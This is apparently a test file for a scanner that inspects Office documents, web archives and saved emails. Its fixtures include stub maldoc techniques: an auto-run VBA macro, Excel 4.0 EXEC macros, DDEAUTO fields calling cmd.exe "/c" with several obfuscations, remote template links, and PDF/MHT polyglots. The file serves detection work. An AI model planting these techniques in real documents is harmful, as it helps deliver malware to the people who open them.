/** Office documents, web archives and saved messages: what they fetch, run, link to and hold. */
import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { inspector } from '../../src/archives/inspect.ts'
import type { FileTrait, Inspection } from '../../src/archives/inspection.ts'
import { ole, vba, zip } from './build.ts'

const { signal } = new AbortController()
const look = (bytes: Buffer | string, name = ''): Promise<Inspection | undefined> =>
  inspector({ signal })(name, Buffer.from(bytes))

const traits = (found: Inspection | undefined): readonly FileTrait[] => [
  ...(found?.traits ?? []),
  ...(found?.inside ?? []).flatMap(({ inspection }) => traits(inspection)),
]
const formats = (found: Inspection | undefined): readonly string[] =>
  found ? [found.format, ...found.inside.flatMap(({ inspection }) => formats(inspection))] : []
const names = (found: Inspection | undefined): readonly string[] => [
  ...(found?.members ?? []).map(({ name }) => name),
  ...(found?.inside ?? []).flatMap(({ inspection }) => names(inspection)),
]

const program = Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(200)])
const macros = ole([
  {
    path: 'VBA/ThisDocument',
    data: Buffer.concat([
      Buffer.alloc(3),
      vba('Attribute VB_Name = "T"\r\nSub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n'),
    ]),
  },
])

interface Parts {
  readonly [name: string]: string | Buffer
}
const document = (parts: Parts): Buffer =>
  zip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    ...Object.entries(parts).map(([name, data]) => ({ name, data })),
  ])
const docx = (parts: Parts): Buffer => document({ 'word/document.xml': '<w:document/>', ...parts })
const relation = (kind: string, target: string, more = ''): string =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External" ${more}/></Relationships>`

describe('what a document fetches', () => {
  test.for<readonly [kind: string, target: string]>([
    ['aFChunk', 'https://chunks.example/a.rtf'],
    ['attachedTemplate', 'https://templates.example/a.dotm'],
    ['attachedTemplate', '&#x68;ttps://templates.example/a.dotm'],
    ['attachedTemplate', String.raw`\\files.templates.example@SSL\DavWWWRoot\a.dotm`],
    ['attachedTemplate', 'file:///%5C%5Cfiles.templates.example%5Ca.dotm'],
    ['attachedTemplate', String.raw`\\3232235777\share\a.dotm`],
    ['oleObject', 'mhtml:https://objects.example/a.html!x-usc:https://objects.example/a.html'],
    ['oleObject', 'https://example.sharepoint.com/a.html'],
    ['frame', 'https://frames.example/a.html'],
    ['subDocument', '//parts.example/a.docx'],
    ['externalLinkPath', 'https://books.example/a.xlsx'],
    ['mailMergeSource', 'https://data.example/a.mdb'],
    ['image', String.raw`\\pictures.example\a.png`],
    ['image', 'file://pictures.example/a.png'],
  ])('M13 a relationship %s to %s is fetched from elsewhere', async ([kind, target]) => {
    const found = await look(docx({ 'word/_rels/document.xml.rels': relation(kind, target) }))
    expect(found?.traits).toEqual(['external-template'])
  })

  test.for<readonly [kind: string, target: string]>([
    ['attachedTemplate', 'file:///C:/Users/a/Letter.dotm'],
    ['attachedTemplate', String.raw`\\files\templates\Letter.dotm`],
    ['attachedTemplate', String.raw`file:///\\files.larch.local\templates\Letter.dotm`],
    ['attachedTemplate', 'https://larch.sharepoint.com/sites/all/Letter.dotm'],
    ['attachedTemplate', 'Normal.dotm'],
    ['externalLinkPath', 'https://d.docs.live.net/1234abcd/Sums.xlsx'],
    ['externalLinkPath', '/Users/a/Sums.xlsx'],
    ['externalLinkPath', String.raw`\\172.20.1.4\books\Sums.xlsx`],
    ['image', 'https://pictures.example/logo.png'],
    ['video', 'https://video.example/watch?v=1'],
  ])('a relationship %s to %s is the author’s own', async ([kind, target]) => {
    const found = await look(docx({ 'word/_rels/document.xml.rels': relation(kind, target) }))
    expect(found?.traits).toEqual([])
  })

  test('M13 attributes stand in any order, under any prefix, and a value may hold “>”', async () => {
    const rels = `<r:Relationships xmlns:r="x"><r:Relationship TargetMode='External' Title="a>b" Target='https://templates.example/t.dotm' Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Id="r"/></r:Relationships>`
    for (const data of [rels, Buffer.from(`\ufeff${rels}`, 'utf16le')])
      expect((await look(docx({ 'word/_rels/settings.xml.rels': data })))?.traits).toEqual(['external-template'])
  })

  test('M13 parts in folders with other names make a document all the same', async () => {
    const found = await look(
      document({
        '_rels/.rels': relation('officeDocument', 'a/b.xml'),
        'a/_rels/b.xml.rels': relation('aFChunk', 'https://chunks.example/'),
      }),
    )
    expect(found?.traits).toEqual(['external-template'])
  })

  const property = (value: string): string =>
    `<Properties><property fmtid="{1}" pid="2" name="_AssemblyLocation"><vt:lpwstr>${value}</vt:lpwstr></property></Properties>`

  test('M13 code of Visual Studio Tools for Office that another host delivers', async () => {
    const remote = await look(docx({ 'docProps/custom.xml': property('https://addins.example/a.vsto|1234') }))
    expect(remote?.evidence).toEqual(['opening it loads code from https://addins.example/a.vsto (VSTO)'])
    for (const own of ['file:///C:/Addins/a.vsto|1234|vstolocal', 'a.vsto|1234|vstolocal'])
      expect((await look(docx({ 'docProps/custom.xml': property(own) })))?.traits).toEqual([])
  })

  test('M13 a ribbon that calls the macros of a file elsewhere, and data that are asked at once', async () => {
    const ribbon = '<customUI onLoad="https://macros.example/a.dotm!Run"/>'
    expect((await look(docx({ 'customUI/customUI.xml': ribbon })))?.traits).toEqual(['external-template'])
    const book = (load: string) =>
      document({
        'xl/workbook.xml': '<workbook/>',
        'xl/connections.xml': `<connections><connection refreshOnLoad="${load}"><webPr url="https://data.example/q"/></connection></connections>`,
      })
    expect((await look(book('1')))?.traits).toEqual(['external-template'])
    expect((await look(book('0')))?.traits).toEqual([])
  })
})

const run = (code: string): string => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const field = (...codes: readonly string[]): string =>
  `<w:document><w:body><w:p>${mark('begin')}${codes.join('')}${mark('separate')}<w:t>shown</w:t>${mark('end')}</w:p></w:body></w:document>`
const quote = (text: string): string =>
  `${mark('begin')}${run(` QUOTE ${[...text].map(letter => letter.charCodeAt(0)).join(' ')} `)}${mark('separate')}${mark('end')}`

describe('fields', () => {
  test.for<readonly [what: string, xml: string]>([
    ['in one piece', field(run(' DDEAUTO c:\\\\a.exe "/c b" '))],
    ['split into letters', field(...[...'DDE cmd'].map(run))],
    ['spelled by QUOTE', field(quote('DDEAUTO'), run(' c:\\\\windows\\\\system32\\\\cmd.exe "/k x"'))],
    ['with a comment and CDATA', field('<w:instrText>D<!-- x -->D<![CDATA[E]]> cmd</w:instrText>')],
    ['in lower case', field(run('dde cmd "/c x"'))],
    ['as an attribute', '<w:document><w:fldSimple w:x="a>b" w:instr=\'DDEAUTO cmd "/c"\'/></w:document>'],
    ['with letters as numbers', field(run('&#68;&#x44;E cmd "/c x"'))],
    ['without its marks', `<w:document>${run('DDE')}${run('AUTO cmd')}</w:document>`],
    ['under another prefix', field(run(' DDE cmd ')).replaceAll('w:', 'q:')],
  ])('M13 a field that starts a program %s', async ([, xml]) => {
    expect((await look(docx({ 'word/document.xml': xml })))?.traits).toContain('dde')
    expect((await look(docx({ 'word/footnotes.xml': xml })))?.traits).toContain('dde')
  })

  test('a link to a page about DDE is a link', async () => {
    const found = await look(
      docx({ 'word/document.xml': field(run(' HYPERLINK "https://larch.example/DDE and more" ')) }),
    )
    expect(found?.traits).toEqual([])
    expect(found?.links).toEqual([{ url: 'https://larch.example/DDE', shown: 'shown' }])
  })

  test('M13 a field that takes text from elsewhere, and one from the author’s disk', async () => {
    const included = (path: string) => docx({ 'word/document.xml': field(run(` INCLUDETEXT "${path}" `)) })
    expect((await look(included('https://texts.example/a')))?.traits).toEqual(['external-template'])
    expect((await look(included(String.raw`C:\\Letters\\a.docx`)))?.traits).toEqual([])
  })

  test('M13 a cell that starts a program by DDE, and a trader’s figures', async () => {
    const book = (service: string, topic: string) =>
      document({
        'xl/workbook.xml': '<workbook/>',
        'xl/externalLinks/externalLink1.xml': `<externalLink><ddeLink ddeTopic="${topic}" ddeService="${service}"/></externalLink>`,
      })
    expect((await look(book('cmd', '/c calc')))?.traits).toEqual(['dde'])
    expect((await look(book('MSEXCEL', String.raw`\..\..\Windows\System32\cmd.exe /c calc`)))?.traits).toEqual(['dde'])
    expect((await look(book('BLP', 'M')))?.traits).toEqual([])
  })
})

describe('links and text of documents', () => {
  test('a link has the text that it shows', async () => {
    const xml =
      '<w:document><w:p><w:t>See </w:t><w:hyperlink r:id="rId1"><w:r><w:t>our </w:t></w:r><w:r><w:t>page</w:t></w:r></w:hyperlink></w:p><w:p><w:t>Bye</w:t></w:p></w:document>'
    const found = await look(
      docx({
        'word/document.xml': xml,
        'word/_rels/document.xml.rels': relation('hyperlink', 'https://larch.example/?a=1&amp;b=2'),
      }),
    )
    expect(found?.links).toContainEqual({ url: 'https://larch.example/?a=1&b=2', shown: 'our page' })
    expect(found?.text).toBe('See our page\nBye\n')
  })

  test('texts of slides and sheets, links of formulas', async () => {
    const slides = await look(
      document({ 'ppt/slides/slide1.xml': '<p:sld><a:p><a:t>One</a:t></a:p><a:p><a:t>Two</a:t></a:p></p:sld>' }),
    )
    expect(slides?.text).toBe('One\nTwo\n')
    const book = await look(
      document({
        'xl/sharedStrings.xml': '<sst><si><t>Call us</t></si></sst>',
        'xl/worksheets/sheet1.xml':
          '<worksheet><c><f>HYPERLINK("https://larch.example/a","Here")</f></c><c><f>_xlfn.WEBSERVICE("https://data.example/x")</f></c></worksheet>',
      }),
    )
    expect(book?.text).toContain('Call us')
    expect(book?.links).toEqual([{ url: 'https://larch.example/a' }, { url: 'https://data.example/x', kind: 'open' }])
    expect(book?.traits).toEqual([])
  })

  test('a picture is kept for codes', async () => {
    const found = await look(docx({ 'word/media/image1.png': Buffer.alloc(400, 7) }))
    expect(found?.pictures).toEqual([{ format: 'png', bytes: Buffer.alloc(400, 7) }])
  })
})

describe('macros', () => {
  test('M13 a project of macros under another name', async () => {
    const found = await look(docx({ 'word/theme.bin': macros }))
    expect(found?.traits).toEqual(['macro', 'auto-run', 'dangerous-macro'])
  })

  test('M13 a sheet of Excel 4.0 macros under another name, its names and its calls', async () => {
    const parts = {
      'xl/workbook.xml':
        '<workbook><sheets><sheet state="veryHidden"/></sheets><definedName name="_xlnm.Auto_Open" hidden="1">m!A1</definedName></workbook>',
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="other/sheet2.xml"/></Relationships>',
      'xl/other/sheet2.xml': '<xm:macrosheet><c><f>EXEC("calc")</f></c></xm:macrosheet>',
    }
    expect(new Set((await look(document(parts)))?.traits)).toEqual(new Set(['macro', 'auto-run', 'dangerous-macro']))
    const binary = {
      'xl/workbook.bin': Buffer.concat([Buffer.from([1]), Buffer.from('_xlnm.Auto_Open', 'utf16le')]),
      'xl/macrosheets/sheet1.bin': Buffer.from([0, 0x17, 0x42, 1, 110, 0]),
    }
    expect(new Set((await look(document(binary)))?.traits)).toEqual(new Set(['macro', 'auto-run', 'dangerous-macro']))
  })

  test('an honest workbook with a name that begins alike runs nothing', async () => {
    const found = await look(
      document({ 'xl/workbook.xml': '<workbook><definedName name="Auto_Opening">a</definedName></workbook>' }),
    )
    expect(found?.traits).toEqual([])
  })
})

const saved = (type: string, body: string, more = ''): string =>
  `From: a@larch.example\r\nTo: b@example.org\r\nSubject: Hi\r\nMessage-ID: <1@larch.example>\r\nMIME-Version: 1.0\r\n${more}Content-Type: ${type}\r\n\r\n${body}`
const withFile = (name: string, content: Buffer): string =>
  saved(
    'multipart/mixed; boundary=b',
    `--b\r\nContent-Type: text/plain\r\n\r\nSee https://larch.example/page and the file\r\n--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${content.toString('base64')}\r\n--b--\r\n`,
  )
const page =
  '<html><body onload="go()"><form action="https://forms.example/p"><input type=password></form><script>go()</script></body></html>'
const webArchive = (parts: string, version = 'MIME-Version: 1.0'): string =>
  `${version}\r\nContent-Type: multipart/related; boundary="=_m"\r\n\r\n${parts}--=_m--\r\n`
const mso = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(bytes)])
const macroPart = `--=_m\r\nContent-Location: file:///C:/d/s.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n${mso(macros).toString('base64')}\r\n`

describe('messages and web archives', () => {
  test.for<readonly [name: string]>([['x.eml'], ['x.txt'], ['']])(
    'M12 the files of a saved message named “%s” are inspected',
    async ([name]) => {
      const found = await look(withFile('order.exe', program), name)
      expect(formats(found)).toEqual(['eml', 'pe'])
      expect(names(found)).toEqual(['order.exe'])
      expect(found?.links).toEqual([{ url: 'https://larch.example/page' }])
      expect(found?.text).toContain('See https://larch.example/page')
    },
  )

  test('M12 messages in archives in messages', async () => {
    const inner = zip([{ name: 'a.eml', data: withFile('b.zip', zip([{ name: 'c.exe', data: program }])) }])
    expect(formats(await look(inner))).toEqual(['zip', 'eml', 'zip', 'pe'])
  })

  test('the page of a message runs nothing, and its links are read', async () => {
    const found = await look(
      saved('text/html', '<html><script>a()</script><a href="https://larch.example/">here</a></html>'),
      'a.eml',
    )
    expect(traits(found)).toEqual([])
    expect(found?.links).toEqual([{ url: 'https://larch.example/', shown: 'here' }])
  })

  test('a note with the fields of a letter is no message', async () => {
    expect(await look('From: Anna\nTo: Bob\nDate: Monday\n\nDear Bob', 'note.txt')).toBeUndefined()
  })

  test('M12 an encoded page of a web archive is read as a page', async () => {
    const parts = `--=_m\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(page).toString('base64')}\r\n`
    for (const name of ['a.mht', 'a.doc', '']) {
      const found = await look(webArchive(parts), name)
      expect(formats(found)).toEqual(['mht', 'html'])
      expect(traits(found)).toEqual(expect.arrayContaining(['script', 'form']))
    }
  })

  test('M12 packed macros of a web archive', async () => {
    const found = await look(webArchive(macroPart), 'a.doc')
    expect(formats(found)).toEqual(['mht', 'mso', 'ole'])
    expect(traits(found)).toEqual(['macro', 'auto-run', 'dangerous-macro'])
  })

  test.for<readonly [what: string, archive: string]>([
    ['after a PDF', webArchive(macroPart)],
    ['in lower case', webArchive(macroPart, 'mime-version: 1.0')],
    ['with other fields before', `X-A: b\r\nSubject: c\r\n${webArchive(macroPart)}`],
    ['with its type first', webArchive(macroPart).replace(/^(MIME.*\r\n)(Content-Type.*\r\n)/, '$2$1')],
  ])('M13 a web archive %s is found, whatever the name', async ([, archive]) => {
    for (const name of ['a.doc', 'a.pdf', '']) {
      const found = await look(`%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n\r\n${archive}`, name)
      expect(found?.traits).toContain('polyglot')
      expect(traits(found)).toContain('macro')
    }
  })

  test('an ordinary PDF is no web archive', async () => {
    expect((await look('%PDF-1.7\n1 0 obj\n<< /Title (MIME-Version: 1.0) >>\nendobj\n%%EOF\n'))?.traits).toEqual([])
  })
})

describe('M13 large sheets', () => {
  const cells = (count: number): string =>
    Array.from({ length: count }, (_, index) => `<c r="A${index}"><v>${(index * 7919) % 100_003}</v></c>`).join('')
  const sheets = (count: number, extra = '', prefix = ''): Buffer =>
    zip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'xl/workbook.xml', data: '<workbook/>' },
      ...Array.from({ length: count }, (_, index) => ({
        name: `xl/worksheets/sheet${index}.xml`,
        data: `<${prefix}worksheet>${cells(80_000)}${extra}</${prefix}worksheet>`,
        stored: true,
      })),
    ])

  test('are examined to their end, and an honest workbook of many is beyond no limit', async () => {
    expect(await look(sheets(6), 'a.xlsx')).toMatchObject({ traits: [] })
  })

  test.for(['', 'x:'])('have formulas behind two megabytes (prefix “%s”)', async prefix => {
    const dde = sheets(1, `<${prefix}f>cmd|'/c calc'!A1</${prefix}f>`, prefix)
    expect((await look(dde, 'a.xlsx'))?.traits).toEqual(['dde'])
  })
})

describe('M13 a field behind much text', () => {
  const paragraphs = (megabytes: number): string =>
    Array.from(
      { length: megabytes * 6000 },
      (_, at) => `<w:p><w:r><w:t>${at} ${at * 7919} ${'words '.repeat(20)}</w:t></w:r></w:p>`,
    ).join('')
  const long = (megabytes: number, end: string): Buffer =>
    docx({ 'word/document.xml': `<w:document>${paragraphs(megabytes)}${end}</w:document>` })
  const dde = '<w:fldSimple w:instr=\'DDEAUTO cmd "/c"\'/>'

  test('is found behind three megabytes', async () => {
    expect(traits(await look(long(3, dde)))).toContain('dde')
  })
  test('is reported as not examined behind ten', async () => {
    expect((await look(long(10, dde)))?.beyond).toBeDefined()
  })
  test('a long document without fields is examined', async () => {
    expect((await look(long(10, '')))?.traits).toEqual([])
  })
})
